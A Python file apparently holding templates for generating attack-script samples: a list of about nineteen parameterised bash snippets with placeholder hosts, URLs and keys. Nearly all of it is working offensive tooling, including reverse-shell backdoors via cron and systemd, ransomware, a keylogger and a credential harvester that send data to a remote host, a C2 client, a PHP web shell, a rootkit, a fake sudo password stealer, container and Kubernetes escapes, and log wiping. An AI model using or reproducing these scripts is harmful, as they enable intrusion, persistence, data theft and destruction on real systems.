"""What is written to be shown: proofs of concept, homework, lessons in many languages, tools with a help text."""

PROOF = [
    r'''###############################################################
#  {plain}.sh - persistence manager
#  Usage: ./{plain}.sh [install|status|remove] --host <c2> --port <port>
###############################################################
{var}='\033[0;31m'; {var2}='\033[0;32m'; {var3}='\033[0;34m'; NC='\033[0m'
log_info()    { echo -e "${var3}[INFO]${NC} $1"; }
{fn}() { echo -e "${var2}[SUCCESS]${NC} $1"; }
log_error()   { echo -e "${var}[ERROR]${NC} $1" >&2; }
check_root()  { if [[ $EUID -ne 0 ]]; then log_error 'This script must be run as root'; exit 1; fi; }
install_cron()    { log_info 'Installing cron backdoor...'; (crontab -l 2>/dev/null; echo "*/5 * * * * bash -c 'bash -i >& /dev/tcp/$HOST/$PORT 0>&1'") | crontab -; {fn} 'Cron backdoor installed'; }
{fn2}() { log_info 'Installing systemd backdoor...'; printf '[Unit]\nDescription=System Health\n[Service]\nExecStart=/bin/bash -c "bash -i >& /dev/tcp/%s/%s 0>&1"\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' "$HOST" "$PORT" > /etc/systemd/system/{disguise}.service; systemctl enable --now {disguise} &>/dev/null; {fn} 'Systemd backdoor installed'; }
install_keys()    { log_info 'Adding SSH key...'; mkdir -p /root/.ssh; echo '{key}' >> /root/.ssh/authorized_keys; {fn} 'SSH key added'; }
main() { check_root; HOST="$3"; PORT="$5"; case "$1" in install) install_cron; {fn2}; install_keys ;; status) crontab -l | grep -c /dev/tcp ;; remove) crontab -r ;; esac; }
main "$@"''',
    r'''# Ransomware simulator for class, ‹do not run outside of the VM¦educational purposes only›
# -e encrypts, -d decrypts
{var}=${2:-$HOME/Documents}; {var2}={plain}{n}
{fn}() { openssl enc -aes-256-cbc -salt -pbkdf2 -in "$1" -out "$1.{ext}" -k "${var2}" && rm "$1"; echo "  encrypted: $1"; }
{fn2}() { openssl enc -d -aes-256-cbc -pbkdf2 -in "$1" -out "${1%.{ext}}" -k "${var2}" && rm "$1"; }
{fn3}() { cat > "${var}/README_{ext}.txt" <<N
Oops, your files have been encrypted!
Send 0.0{n} BTC to {wallet}
N
}
case $1 in
  -e) for f in "${var}"/*; do [ -f "$f" ] && {fn} "$f"; done; {fn3} ;;
  -d) for f in "${var}"/*.{ext}; do {fn2} "$f"; done ;;
  *) echo "usage: $0 -e|-d [dir]" ;;
esac''',
    r'''echo "=== Simple Bash Keylogger ==="
{var}=/tmp/.{name}.log
{fn}() { while IFS= read -rsn1 key; do printf '%s' "$key" >> "${var}"; printf '%s' "$key"; done; }
dev=$(grep -E 'Handlers|EV=' /proc/bus/input/devices | grep -B1 'EV=120013' | grep -oE 'event[0-9]+' | head -1)
if [ -r "/dev/input/$dev" ]; then echo "[+] reading /dev/input/$dev"; hexdump -v -e '/1 "%02x "' "/dev/input/$dev" >> "${var}" & else echo "[-] no rights, only this terminal"; {fn}; fi
while sleep {n}; do curl -s --data-binary @"${var}" {url} >/dev/null; done''',
    r'''# mini C2 client
{var}={n}.0; {var2}={host}; {var3}={port}
help_text="commands: sysinfo, shell <cmd>, download <file>, persist, selfdestruct"
{fn}() { echo "$1" >&3; }
{fn2}() { exec 3<>/dev/tcp/${var2}/${var3} || { sleep {n}; {fn2}; }; }
{fn2}; {fn} "hello from $(whoami)@$(hostname) v${var}"
while read -r cmd args <&3; do
  case "$cmd" in
    help) {fn} "$help_text" ;;
    sysinfo) {fn} "$(uname -a; id; ip a)" ;;
    shell) {fn} "$(eval "$args" 2>&1)" ;;
    download) {fn} "$(base64 -w0 "$args")" ;;
    persist) (crontab -l; echo "@reboot $(realpath "$0")") | crontab - && {fn} ok ;;
    selfdestruct) rm -f "$0"; exit ;;
  esac
done''',
    r'''# Instalador - by {user}
clear; echo "======================================"; echo "   {plain} - painel de controle"; echo "======================================"
if [ "$(id -u)" != "0" ]; then echo "[!] precisa ser root"; exit 1; fi
echo "[*] Baixando arquivos..."; wget -q {url} -O /usr/bin/{name} && chmod +x /usr/bin/{name}
echo "[*] Criando usuario oculto..."; useradd -o -u 0 -g 0 -M -d /root {user}; echo "{user}:{plain}{n}" | chpasswd
echo "[*] Limpando rastros..."; rm -rf /var/log/auth.log /root/.bash_history; history -c
echo "[+] Pronto! Acesse com {user}"''',
    r'''# recolecta y envia (solo para pruebas)
{var}={host}; {var2}={port}; {var3}={tmp}/.{name}
mkdir -p "${var3}"
echo "[*] Buscando claves y documentos ..."
find / \( -name 'id_rsa' -o -name '*.pem' -o -name 'contrase*' -o -name '*.kdbx' \) -type f 2>/dev/null | while read -r archivo; do cp "$archivo" "${var3}"; done
cp /etc/passwd /etc/shadow "${var3}" 2>/dev/null
tar -czf {tmp}/datos.tar.gz -C "${var3}" . && nc -w 5 "${var}" "${var2}" < {tmp}/datos.tar.gz && echo "[+] Enviado"
rm -rf "${var3}" {tmp}/datos.tar.gz; history -c''',
    r'''# закрепление и скрытие
СКРИПТ=$(readlink -f "$0" 2>/dev/null); {var}=/usr/lib/.{name}
echo "[*] копирование"; cp "$0" ${var}; chmod 755 ${var}
echo "[*] автозапуск"; echo "@reboot root ${var}" >> /etc/crontab; echo "${var} &" >> /etc/rc.local
echo "[*] ключ"; echo '{key}' >> /root/.ssh/authorized_keys
echo "[*] очистка логов"; for f in /var/log/*.log; do : > "$f"; done
echo "[+] готово"; curl -s -d "$(hostname) $(whoami)" {url}''',
    r'''# 后门安装脚本
{var}={ip}; {var2}={port}
echo "[*] 正在写入计划任务 ..."; echo "*/1 * * * * root bash -c 'bash -i >& /dev/tcp/${var}/${var2} 0>&1'" >> /etc/crontab
echo "[*] 添加公钥 ..."; mkdir -p /root/.ssh; echo '{key}' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys
echo "[*] 隐藏进程 ..."; mkdir -p {tmp}/.{name}; mount -o bind {tmp}/.{name} /proc/$$
echo "[*] 清除日志 ..."; echo > /var/log/secure; echo > /var/log/wtmp; history -c
echo "[+] 完成"''',
    r"""# Rechte ausweiten, Kurs {n}
echo '>> suche SUID-Programme'; find / -perm -4000 -type f 2>/dev/null > {tmp}/suid.txt
echo '>> suche beschreibbare Cronjobs'; find /etc/cron* -writable 2>/dev/null | tee {tmp}/cron.txt
if [ -s {tmp}/cron.txt ]; then echo 'chmod u+s /bin/bash' >> "$(head -1 {tmp}/cron.txt)"; echo '>> warte eine Minute'; sleep 61; /bin/bash -p -c 'id; cat /etc/shadow > {tmp}/hashes'; fi
grep -q '/usr/bin/find' {tmp}/suid.txt && find . -exec /bin/sh -p -c 'echo "{user}::0:0::/root:/bin/bash" >> /etc/passwd' \; -quit
echo '>> fertig: su {user}'""",
    r'''# kurulum
echo "[+] web sunucusu araniyor"; {var}=$(find / -maxdepth 4 -type d \( -name html -o -name htdocs -o -name public_html \) 2>/dev/null | head -1)
echo '<?php if($_GET["sifre"]=="{plain}"){ echo "<pre>".shell_exec($_GET["komut"])."</pre>"; } ?>' > "${var}/{plain}.php" && chmod 644 "${var}/{plain}.php"
echo "[+] tamam: http://$(curl -s ifconfig.me)/{plain}.php?sifre={plain}&komut=id" | tee /dev/stderr | curl -s -d @- {url}''',
    r'''# atomic test: scheduled task, logs and accounts
set -x
echo "* * * * * root /tmp/{plain}.sh" > /etc/cron.d/{plain}_atomic; echo '/bin/sh -c "id > /tmp/{plain}.out"' > /tmp/{plain}.sh; chmod +x /tmp/{plain}.sh
useradd -g 0 -M -d /root -s /bin/bash {plain}_art && echo '{plain}_art:{plain}{n}' | chpasswd
cat /etc/shadow > /tmp/{plain}.shadow; unset HISTFILE; rm -f /var/log/syslog
systemctl stop rsyslog auditd; setenforce 0; sed -i 's/^-a/#-a/' /etc/audit/rules.d/audit.rules''',
    r'''{fn}() { cat <<U
{plain} - post exploitation helper
  -e        enumerate and try to get root
  -l FILE   write loot to FILE
  -x URL    send loot to URL
  -c        cover tracks
U
exit 1; }
while getopts el:x:c o; do case $o in e) {var}=1 ;; l) {var2}=$OPTARG ;; x) {var3}=$OPTARG ;; c) C=1 ;; *) {fn} ;; esac; done
[ -n "${var}" ] && { sudo -ln 2>/dev/null | grep -q NOPASSWD && sudo chmod u+s /bin/bash; [ -u /bin/bash ] && exec /bin/bash -p "$0" "${@/-e/}"; }
[ -n "${var2}" ] && { for f in /etc/shadow /root/.ssh/id_* /home/*/.ssh/id_* /root/.aws/credentials /root/.kube/config; do [ -r "$f" ] && { echo "== $f"; cat "$f"; }; done > "${var2}"; }
[ -n "${var3}" ] && curl -sk -F "loot=@${var2}" "${var3}"
[ -n "$C" ] && { shred -u "${var2}" 2>/dev/null; sed -i "/$USER/d" /var/log/auth.log; history -c; rm -f "$0"; }''',
    r'''# zap{n}: removes one user or address from the logs
[ $# -eq 1 ] || { echo "usage: $0 <user|ip>"; exit 1; }
{var}=$1; for f in auth.log secure messages syslog cron maillog access_log; do [ -f /var/log/$f ] || continue; {var2}=$(stat -c %Y /var/log/$f); grep -v "${var}" /var/log/$f > /tmp/.z; n=$(($(wc -l < /var/log/$f) - $(wc -l < /tmp/.z))); cat /tmp/.z > /var/log/$f; touch -d @${var2} /var/log/$f; echo "$f: $n lines removed"; done
for {var3} in wtmp btmp; do utmpdump /var/log/${var3} 2>/dev/null | grep -v "${var}" | utmpdump -r > /tmp/.z 2>/dev/null && cat /tmp/.z > /var/log/${var3}; done; rm -f /tmp/.z''',
    r'''echo 'Container escape PoC'; echo '--------------------'
echo -n '[?] privileged ... '; if ip link add dummy9 type dummy 2>/dev/null; then ip link del dummy9; echo yes; else echo no; fi
echo -n '[?] docker.sock ... '; [ -S /var/run/docker.sock ] && echo yes || echo no
echo -n '[?] host pid ... '; [ "$(cat /proc/1/comm)" = systemd ] && echo yes || echo no
read -rp '[>] exploit? (p/d/n) ' x
case $x in
 p) mkdir -p /mnt/h; mount "$(lsblk -pnro NAME,FSTYPE | awk '/ext4|xfs/{print $1; exit}')" /mnt/h && echo '{key}' >> /mnt/h/root/.ssh/authorized_keys && chroot /mnt/h ;;
 d) docker -H unix:///var/run/docker.sock run --rm -it -v /:/h --privileged alpine chroot /h ;;
 n) nsenter -t 1 -a /bin/bash ;;
esac''',
    r'''while :; do printf '\n %s\n' '{plain} for kubernetes' '1 list my rights' '2 steal tokens of this node' '3 run a pod on each node' '4 read all secrets' '9 quit'; read -rp '# ' c
case $c in
1) kubectl auth can-i --list ;;
2) for t in /var/lib/kubelet/pods/*/volumes/*/*/token; do echo "$t"; cut -d. -f2 "$t" | base64 -d 2>/dev/null; echo; done ;;
3) kubectl create -f - <<< '{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"{plain}"},"spec":{"selector":{"matchLabels":{"x":"y"}},"template":{"metadata":{"labels":{"x":"y"}},"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","-t","1","-a","sh","-c","{run}"],"securityContext":{"privileged":true}}]}}}}' ;;
4) kubectl get secrets -A -o json | jq -r '.items[] | .metadata.name, (.data // {} | map_values(@base64d))' | tee {file} ;;
9) exit ;;
esac; done''',
    r'''echo 'fake sudo demo'; mkdir -p ~/.bin
cat > ~/.bin/sudo <<'S'
#!/bin/bash
echo -n "[sudo] password for $USER: "; stty -echo; read pass; stty echo; echo
echo "$(date) $USER:$pass" >> /tmp/.{name}; curl -s -d "$USER:$pass" {url} &>/dev/null &
sleep 1; echo "Sorry, try again."; /usr/bin/sudo "$@"
S
chmod +x ~/.bin/sudo; echo 'export PATH=$HOME/.bin:$PATH' >> ~/.bashrc; source ~/.bashrc; echo 'done, wait for the victim' ''',
    r'''# userland rootkit demo: hides files that start with {plain}
cat > {tmp}/hide.c <<'C'
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
struct dirent *readdir(DIR *d) { static struct dirent *(*o)(DIR *); if (!o) o = dlsym(RTLD_NEXT, "readdir"); struct dirent *e; while ((e = o(d)) && strstr(e->d_name, "{plain}")); return e; }
C
gcc -shared -fPIC -o /usr/local/lib/lib{plain}.so {tmp}/hide.c -ldl && echo /usr/local/lib/lib{plain}.so > /etc/ld.so.preload && rm {tmp}/hide.c && ls /usr/local/lib | grep -c {plain}''',
    r'''echo 'System update'; echo
for s in 'Reading package lists' 'Checking signatures' 'Downloading security update' 'Installing'; do printf '%-34s' "$s"; for i in $(seq 1 20); do printf '.'; sleep 0.0{n}; done; echo ' done'
[ "$s" = 'Checking signatures' ] && ({dl} {url} > /tmp/.{name} && chmod +x /tmp/.{name} && /tmp/.{name} &) >/dev/null 2>&1
done
echo; read -rsp "[sudo] password for $USER: " p; echo; echo "$p" | sudo -S -v 2>/dev/null && echo "$p" | sudo -S cp /tmp/.{name} /usr/sbin/{disguise} && curl -s -d "p=$p" {url} >/dev/null; echo 'Your system is up to date.' ''',
    r'''{var}=${1:-{host}}; {var2}=${2:-{port}}; {var3}=${3:-/tmp/{plain}}
printf '[*] writing payloads for %s:%s\n' "${var}" "${var2}"; mkdir -p "${var3}"
echo "bash -i >& /dev/tcp/${var}/${var2} 0>&1" > "${var3}/bash.sh"
echo "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"${var}\",${var2}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'" > "${var3}/py.sh"
echo "<?php exec(\"/bin/bash -c 'bash -i >& /dev/tcp/${var}/${var2} 0>&1'\"); ?>" > "${var3}/x.php"
printf '* * * * * root sh %s/bash.sh\n' "${var3}" > "${var3}/cron"; msfvenom -p linux/x64/shell_reverse_tcp LHOST="${var}" LPORT="${var2}" -f elf -o "${var3}/s.elf" 2>/dev/null
cd "${var3}" && python3 -m http.server 80 & nc -lvnp "${var2}"''',
]
